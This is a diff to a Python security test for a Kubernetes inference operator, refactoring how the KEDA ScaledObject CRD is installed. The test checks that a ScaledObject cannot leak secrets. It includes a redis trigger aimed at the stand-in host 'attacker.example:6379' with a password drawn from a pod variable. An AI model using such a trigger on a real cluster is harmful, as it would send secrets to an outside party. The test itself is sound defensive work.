@@ -39,9 +39,8 @@ from inference_operator.manifest import (
 from inference_operator.objects.child import RETAIN_ANNOTATION
 from inference_operator.objects.names import MANAGED_BY_LABEL, labels
 from tests.chart.helm import Helm
-from tests.testing.definitions import await_established
 from tests.testing.keda import scaled_object_crd
-from tests.testing.operated_cluster import RELEASE, SYSTEM, new_workspace
+from tests.testing.operated_cluster import RELEASE, SYSTEM, new_workspace, optional_kinds
 from tests.testing.operator_process import OperatorProcess
 from tests.testing.requests_of import STRATEGIC, Answer, RequestsOf
 from tests.testing.workspace import QWEN, Workspace
@@ -516,11 +515,9 @@ def test_the_operator_may_make_no_object_by_which_a_controller_acts_on_objects_o
 
 
 def test_a_scaled_object_of_the_operator_reads_no_secret(
-    thief: RequestsOf, victim: Workspace, kubernetes: LocalCluster
+    thief: RequestsOf, victim: Workspace, kubernetes: LocalCluster, operator: OperatorProcess
 ) -> None:
     """KEDA sends what it resolves from a Secret or a variable of a pod to the address of the trigger."""
-    kubernetes.kubectl("create", "--filename", str(scaled_object_crd()))
-    await_established(kubernetes, "crd/scaledobjects.keda.sh")
     target = {"apiVersion": API_VERSION, "kind": KIND, "name": "qwen"}
     metadata = {"serverAddress": "http://prometheus.example:9090", "query": "up", "threshold": "1"}
 
@@ -529,7 +526,7 @@ def test_a_scaled_object_of_the_operator_reads_no_secret(
         return thief.post(dry(SCALED_OBJECT, victim.namespace), child(SCALED_OBJECT, "stolen", spec))
 
     usual = {"type": "prometheus", "metadata": metadata}
-    try:
+    with optional_kinds(kubernetes, operator, scaled_object_crd()):
         eventually(lambda: answer(usual).accepted, seconds=60, what=lambda: answer(usual).message)
         for trigger in (
             {"type": "redis", "metadata": {"address": "attacker.example:6379", "passwordFromEnv": "PASSWORD"}},
@@ -539,8 +536,6 @@ def test_a_scaled_object_of_the_operator_reads_no_secret(
             assert refused_by("autoscalers") in answer(trigger).message
         deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "theirs"}
         assert refused_by("autoscalers") in answer(usual, deployment).message
-    finally:
-        kubernetes.kubectl("delete", "crd", "scaledobjects.keda.sh")
 
 
 # Pods
